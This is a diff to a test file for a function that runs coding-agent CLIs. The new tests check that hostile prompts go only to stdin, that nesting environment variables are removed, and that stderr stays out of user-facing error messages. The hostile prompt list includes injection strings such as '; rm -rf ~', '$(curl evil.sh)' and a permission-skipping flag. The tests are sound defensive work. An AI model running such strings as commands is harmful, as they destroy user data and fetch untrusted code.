@@ -171,7 +171,65 @@ describe('runCommandReply', () => {
     expect(r).toMatchObject({
       type: 'error',
       kind: 'exit',
-      message: expect.stringContaining('does not exist'),
+      detail: expect.stringContaining('does not exist'),
     });
+  });
+
+  it('passes hostile and huge prompts verbatim on stdin, with argv untouched', async () => {
+    const hostile = [
+      '--dangerously-skip-permissions',
+      '-p',
+      '; rm -rf ~',
+      '$(curl evil.sh)',
+      '`id`',
+      '--resume x',
+      'nul\0byte',
+      'x'.repeat(300_000),
+    ].join('\n');
+    const { spec, request, recorded } = setup('codex', 'new');
+    const r = await runCommandReply(spec, request({ prompt: hostile }));
+    expect(r.type).toBe('ok');
+    expect(recorded().stdin).toBe(hostile);
+    expect(recorded().argv).toEqual(['exec', '--json', '--skip-git-repo-check', '--', '-']);
+  });
+
+  it('never hands nesting variables to the CLI', async () => {
+    const { spec, request, recorded } = setup('claude', 'new');
+    const base = request();
+    await runCommandReply(spec, {
+      ...base,
+      env: { ...base.env, CLAUDECODE: '1', CLAUDE_CODE_ENTRYPOINT: 'sdk' },
+    });
+    expect(recorded().envKeys).not.toContain('CLAUDECODE');
+    expect(recorded().envKeys).not.toContain('CLAUDE_CODE_ENTRYPOINT');
+  });
+
+  it('reports a CLI killed by a signal without its output in the message', async () => {
+    const { spec, request } = setup('codex', 'new');
+    const script = 'console.error("at /home/me/secret.js:1"); process.kill(process.pid, "SIGKILL")';
+    const r = await runCommandReply(spec, request({ command: [process.execPath, '-e', script] }));
+    expect(r).toMatchObject({
+      type: 'error',
+      kind: 'exit',
+      signal: 'SIGKILL',
+      message: 'Codex stopped unexpectedly (SIGKILL).',
+    });
+  });
+
+  it('keeps stderr and stack traces out of the user message of a failed run', async () => {
+    const { spec, request } = setup('claude', 'new');
+    const script = join(dir, 'fails.js');
+    writeFileSync(
+      script,
+      'console.error("Error: boom at /home/me/.claude/x.js\\n    at Object.<anonymous> (/x.js:1:1)"); process.exit(1);',
+    );
+    const r = await runCommandReply(spec, request({ command: [process.execPath, script] }));
+    expect(r).toMatchObject({
+      type: 'error',
+      kind: 'exit',
+      exitCode: 1,
+      message: 'Claude Code failed (exit code 1).',
+    });
+    if (r.type === 'error') expect(r.detail).toContain('boom');
   });
 });
